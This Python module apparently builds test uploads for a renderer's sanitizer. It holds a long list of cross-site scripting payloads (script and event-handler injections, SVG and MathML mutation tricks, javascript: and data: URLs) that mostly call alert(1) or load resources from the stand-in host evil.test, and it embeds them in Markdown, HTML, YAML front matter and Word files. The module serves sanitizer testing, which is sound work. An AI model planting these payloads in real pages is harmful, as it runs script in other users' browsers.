"""Attacks on the reader of a page: pieces of HTML and addresses that run something, through every slot of an upload.

Collected after the kinds of DOMPurify's, OWASP's and html5sec's lists; bleach's and markdown-it's cases are beside them
(tests/renderer/spec). Each says `alert(1)`, or asks evil.test for something that is no picture.
"""

import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from pathlib import Path

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPE = "application/vnd.openxmlformats-"
SPEC = Path(__file__).parents[1] / "renderer/spec"

MARKUP = (
    r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><g title="</style><img src=x onerror=alert(1)>">
<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>
<svg/onload=alert(1)//
<svg><title><img src=x onerror=alert(1)></title></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><a xlink:href=javascript:alert(1)>x</a></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><option><X><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror='alert(1)'>">
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)></iframe>
<iframe src=http://evil.test/frame></iframe>
<object data=javascript:alert(1)></object>
<object data=http://evil.test/object></object>
<embed src=javascript:alert(1)>
<embed src=http://evil.test/embed>
<link rel=stylesheet href=http://evil.test/style>
<style>@import 'http://evil.test/import';</style>
<style>body{background:url(http://evil.test/css)}</style>
<base href=http://evil.test/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=http://evil.test/refresh">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<button onclick=alert(1) autofocus onfocus=alert(1)>x</button>
<a href=javascript:alert(1)>x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=x onmouseover=alert(1)>x</a>
<a href="x" title='" onmouseover="alert(1)'>x</a>
<area href=javascript:alert(1)>
<form action=javascript:alert(1)><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex action=javascript:alert(1) type=image>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<video poster=javascript:alert(1)></video>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<div onclick=alert(1)>x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0;z-index:9" onmouseover=alert(1)>x</div>
<p style="background-image:url('http://evil.test/css')">x</p>
<div style=animation-name:x onanimationstart=alert(1)><style>@keyframes x{}</style></div>
<table background=javascript:alert(1)><td>x</table>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src='x' title="--><img src=x onerror=alert(1)>">
<img/src/onerror=alert(1)>
<IMG """
    '"""'
    r"""><SCRIPT>alert(1)</SCRIPT>">
<<script>alert(1)//<</script>
<script src=http://evil.test/script></script>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x:alert(1) onerror=eval(src)>
<img srcset="x 1x" onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
<image src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>
<x contenteditable onblur=alert(1) onfocus=alert(1) autofocus>x</x>
<portal src=http://evil.test/portal></portal>
<slot name=x onslotchange=alert(1)></slot>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<p title="&quot;><img src=x onerror=alert(1)>">x</p>
<a title="</a><img src=x onerror=alert(1)>" href=x>x</a>
<b><p><a href=javascript:alert(1)></b>x
<div><style></div><img src=x onerror=alert(1)></style></div>
<ruby><rt><img src=x onerror=alert(1)></rt></ruby>
<select><style></select><img src=x onerror=alert(1)></style></select>
<a ping=http://evil.test/ping href=http://evil.test/go>x</a>
<img src=x onload=alert(1) onerror=alert(1) />
<img src=x onerror=&#97;lert(1)>
<img src=x oNeRrOr=alert(1)>
<img src=x onerror
=alert(1)>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<img name=getElementById><img name=body id=body src=x onerror=alert(1)>
"""
)
ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java	script:alert(1)
&#106;avascript:alert(1)
javascript&#58;alert(1)
javascript&colon;alert(1)
java&#x0A;script:alert(1)
&#x01;javascript:alert(1)
javascript:%61lert(1)
javascript://%0aalert(1)
javascript:alert(1)//https://a.example
vbscript:msgbox(1)
livescript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
blob:x
file:///etc/passwd
view-source:javascript:alert(1)
http://evil.test/go" onmouseover="alert(1)
https://a.example/" onmouseover="alert(1)
https://a.example/'onmouseover='alert(1)
https://a.example/><img src=x onerror=alert(1)>
x" onerror="alert(1)
x' onerror='alert(1)
x onerror=alert(1)
x`onerror=alert(1)
"""
# Where a piece of HTML goes in an article; {} is the piece, {q} the piece as a quoted value of YAML.
MARKUP_SLOTS = (
    "{}",
    "前 {} 后",
    "- 一\n- {}\n",
    "> {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "## {}",
    "**{}**",
    "[{}](https://a.example)",
    '[x](https://a.example "{}")',
    "![{}](a.png)",
    '![x](a.png "{}")',
    '![x](a.png){{caption="{}"}}',
    "```{}\ncode\n```",
    "```html {{1}}\n{}\n```",
    "`{}`",
    "$x{}$",
    "$$\n\\text{{{}}}\n$$",
    "{{汉|{}}}",
    ":::tip {}\nx\n:::",
    ":::details {}\n{}\n:::",
    "x[^{}]\n\n[^{}]: {}",
    "术语\n: {}",
    "==a {}==",
    "<div>\n\n{}\n\n</div>",
    '<details open="\n\n```\n{}\n```\n\n<p title=">z</p>',
    "<svg>\n\n{}\n\n</svg>",
)
HEAD_SLOTS = ("title", "author", "digest", "tags", "license", "cover")
ADDRESS_SLOTS = (
    "[x]({})",
    "[x](<{}>)",
    "[x]: <{}>\n\n[x]",
    "<{}>",
    "![x]({})",
    "![x](<{}>)",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<img src="{}">',
    '<img data-src="{}">',
    '<img src=x alt="{}">',
    '<a href="{}"><img src="{}"></a>',
)


@dataclass(frozen=True)
class Vector:
    """One upload."""

    name: str
    data: bytes
    kind: str
    "markdown, html or docx."


def vectors() -> Iterator[Vector]:
    """All of them, each once."""
    for piece in pieces():
        for slot in MARKUP_SLOTS:
            yield _markdown(f"{slot[:12]!r} {piece[:30]!r}", slot.format(*[piece] * 4))
        for key in HEAD_SLOTS:
            yield _headed(key, piece)
        yield Vector(f"html {piece[:30]!r}", f"<title>t</title><h2>x</h2>{piece}".encode(), "html")
        yield Vector(f"html title {piece[:30]!r}", f"<title>{escape(piece)}</title><p>x".encode(), "html")
        yield Vector(f"html section {piece[:30]!r}", f"<title>t</title><section><p>{piece}<br>x".encode(), "html")
        yield Vector(f"docx {piece[:30]!r}", word_file(piece), "docx")
    for address in lines(ADDRESSES):
        for slot in ADDRESS_SLOTS:
            yield _markdown(f"{slot[:12]!r} {address[:30]!r}", slot.format(address, address))
            yield Vector(
                f"html {slot[:12]!r} {address[:30]!r}",
                f"<title>t</title>{slot.format(address, address)}".encode(),
                "html",
            )
        for key in ("original", "cover"):
            yield _headed(key, address)
    for number, text in enumerate(others()):
        yield _markdown(f"collected {number}", text)
        yield Vector(f"collected html {number}", f"<title>t</title>{text}".encode(), "html")


def pieces() -> list[str]:
    """The pieces of HTML."""
    return [piece.replace("\x00", "") for piece in re.split(r"\n(?=<)", MARKUP.strip("\n"))]


def lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


def others() -> Iterator[str]:
    """bleach's data and markdown-it's cases."""
    for path in sorted((SPEC / "bleach").glob("*.test")):
        yield path.read_text("utf-8", "replace").partition("\n--\n")[0]
    text = (SPEC / "markdown_it_xss.md").read_text("utf-8")
    yield from (found[1] for found in re.finditer(r"^\.\n(.*?)^\.\n.*?^\.\n", text, re.DOTALL | re.MULTILINE))


def word_file(text: str) -> bytes:
    """A Word file of one paragraph, and of a link."""
    target = escape("javascript:alert(1)//" + text)
    run = f"<w:r><w:t>{escape(text)}</w:t></w:r>"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="{TYPE}'
        f'package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="{TYPE}'
        'officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="l1" '
        f'Type="{OFFICE}/hyperlink" TargetMode="External" Target="{target}"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body><w:p>{run}</w:p>'
        f'<w:p><w:hyperlink r:id="l1">{run}</w:hyperlink></w:p></w:body></w:document>',
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, f'<?xml version="1.0" encoding="UTF-8"?>{content}')
    return packed.getvalue()


def _markdown(name: str, text: str) -> Vector:
    return Vector(name, f"---\ntitle: t\n---\n{text}\n".encode(), "markdown")


def _headed(key: str, value: str) -> Vector:
    quoted = "'" + " ".join(value.split()).replace("'", "''")[:190] + "'"
    title = "" if key == "title" else "title: t\n"
    return Vector(f"{key} {value[:30]!r}", f"---\n{title}{key}: {quoted}\n---\n正文。\n".encode(), "markdown")
